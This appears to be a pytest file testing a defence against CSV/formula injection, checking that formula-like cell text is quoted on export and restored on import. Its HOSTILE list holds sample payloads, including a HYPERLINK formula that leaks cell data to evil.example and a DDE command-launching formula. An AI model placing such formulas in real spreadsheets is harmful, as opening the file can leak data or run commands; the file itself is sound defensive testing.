"""Cells safe to open: a text a spreadsheet would run as a formula goes out behind a quote
(OWASP's advice on CSV injection) and comes back in as it was."""

from decimal import Decimal

import pytest

from app.domain.spreadsheets import formula_like, marked_text, safe_cell, unquoted

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&B2,"查看")',
    "=cmd|'/c calc'!A1",
    "+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_like_text_goes_out_behind_a_quote_and_comes_back_whole(text):
    assert safe_cell(text) == "'" + text
    assert unquoted(safe_cell(text)) == text


@pytest.mark.parametrize("value", ["王大海", "瓦窑村12号", "530402********1234", "", "a=b", "户主"])
def test_plain_text_is_left_alone(value):
    assert not formula_like(value)
    assert safe_cell(value) == value
    assert unquoted(value) == value


@pytest.mark.parametrize("number", [-5, -1.5, Decimal("-2.50"), 0, 91400, None])
def test_numbers_stay_numbers_negative_ones_too(number):
    assert safe_cell(number) is number


@pytest.mark.parametrize("text", ["'=1+1", "''-2", "'", "'abc", "''"])
def test_a_text_that_already_begins_with_the_quote_comes_back_whole_too(text):
    assert unquoted(safe_cell(text)) == text
    marked = marked_text(text) if formula_like(text) else text
    assert unquoted(marked) == text, "an .xlsx text cell, read back by an import"


def test_a_department_list_keeps_a_quote_that_guards_nothing():
    assert unquoted("'530402199001011234") == "'530402199001011234"
    assert unquoted("'") == "'"
